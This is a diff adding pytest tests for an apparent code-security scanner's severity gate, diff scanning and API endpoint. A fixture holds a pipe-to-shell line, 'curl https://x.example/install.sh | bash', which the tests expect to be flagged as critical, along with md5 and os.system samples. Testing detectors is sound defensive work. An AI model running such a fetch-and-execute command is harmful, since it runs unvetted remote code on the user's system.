@@ -0,0 +1,78 @@
+import pytest
+from fastapi.testclient import TestClient
+
+from backend.app.ai_devsec import ruleset as rs
+from backend.app.ai_devsec.context import ScanContext
+from backend.app.ai_devsec.findings import ScanRequest
+from backend.app.ai_devsec.service import WEIGHTS, gate_contexts, run_diff_gate, run_diff_scan, run_gate, run_scan
+from backend.app.main import app
+from backend.benchmarks.corpus import generate
+
+
+DIFF = """diff --git a/app.py b/app.py
++++ b/app.py
+@@ -1,1 +1,3 @@
++import hashlib
++h = hashlib.md5(data)
+diff --git a/deploy.sh b/deploy.sh
++++ b/deploy.sh
+@@ -10,0 +10,2 @@
++echo ok
++curl https://x.example/install.sh | bash
+"""
+
+
+@pytest.mark.parametrize("threshold", list(WEIGHTS))
+@pytest.mark.parametrize("kind,filename", [("python", "app.py"), ("javascript", "app.js"), ("shell", "run.sh")])
+def test_verdict_agrees_with_a_full_scan(kind, filename, threshold):
+    for bad_rate in (0.0, 0.002, 0.05):
+        req = ScanRequest(code=generate(kind, 64 * 1024, seed=5, bad_rate=bad_rate), filename=filename)
+        full = [f for f in run_scan(req).findings if WEIGHTS[f.severity] >= WEIGHTS[threshold]]
+        verdict = run_gate(req, threshold)
+        assert verdict.passed == (not full)
+        if full:
+            # the most severe level present is the one reported, and the finding is a real one
+            assert verdict.finding in full
+            assert verdict.finding.severity == max((f.severity for f in full), key=WEIGHTS.get)
+
+
+def test_first_match_owner_is_respected():
+    pack = {
+        "detector": "custom", "first_match": True, "severity": "LOW", "confidence": 0.5,
+        "message": "{label}", "recommendation": "-",
+        "rules": [
+            {"id": "custom.broad", "label": "broad", "pattern": r"token", "anchors": ["token"]},
+            {"id": "custom.exact", "label": "exact", "pattern": r"token\(\)", "anchors": ["token"],
+             "severity": "CRITICAL"},
+        ],
+    }
+    ruleset = rs.Ruleset([rs.resolve_pack(pack, "test")])
+    ctx = ScanContext("x = token()\n", "python")
+    # a full scan reports only the LOW rule on this line, so the gate must not fail on it
+    assert gate_contexts([ctx], "HIGH", {}, {}, ruleset) is None
+    assert gate_contexts([ctx], "LOW", {}, {}, ruleset)[1].message == "broad"
+
+
+def test_diff_gate_attributes_file_and_line():
+    verdict = run_diff_gate(DIFF, "HIGH")
+    assert not verdict.passed
+    assert (verdict.finding.file, verdict.finding.line, verdict.finding.severity) == ("deploy.sh", 11, "CRITICAL")
+    assert verdict.finding in run_diff_scan(DIFF).findings
+    assert run_diff_gate(DIFF, "CRITICAL").finding == verdict.finding
+    assert run_diff_gate(DIFF.split("diff --git a/deploy.sh")[0], "CRITICAL").passed
+
+
+def test_gate_query_parameter():
+    client = TestClient(app)
+    body = client.post("/api/ai-devsec/scan?gate=HIGH&filename=a.py", content="import os\nos.system(x)\n",
+                       headers={"Content-Type": "text/plain"}).json()
+    assert body["passed"] is False and body["finding"]["line"] == 2 and "findings" not in body
+    body = client.post("/api/ai-devsec/scan?gate=CRITICAL", content="import os\nos.system(x)\n",
+                       headers={"Content-Type": "text/plain"}).json()
+    assert body == {"passed": True, "threshold": "CRITICAL", "finding": None,
+                    "summary": "No findings at or above CRITICAL."}
+    body = client.post("/api/ai-devsec/scan-diff?gate=MEDIUM", content=DIFF,
+                       headers={"Content-Type": "text/plain"}).json()
+    assert body["finding"]["file"] == "deploy.sh"
+    assert client.post("/api/ai-devsec/scan?gate=SEVERE", content="x",
+                       headers={"Content-Type": "text/plain"}).status_code == 422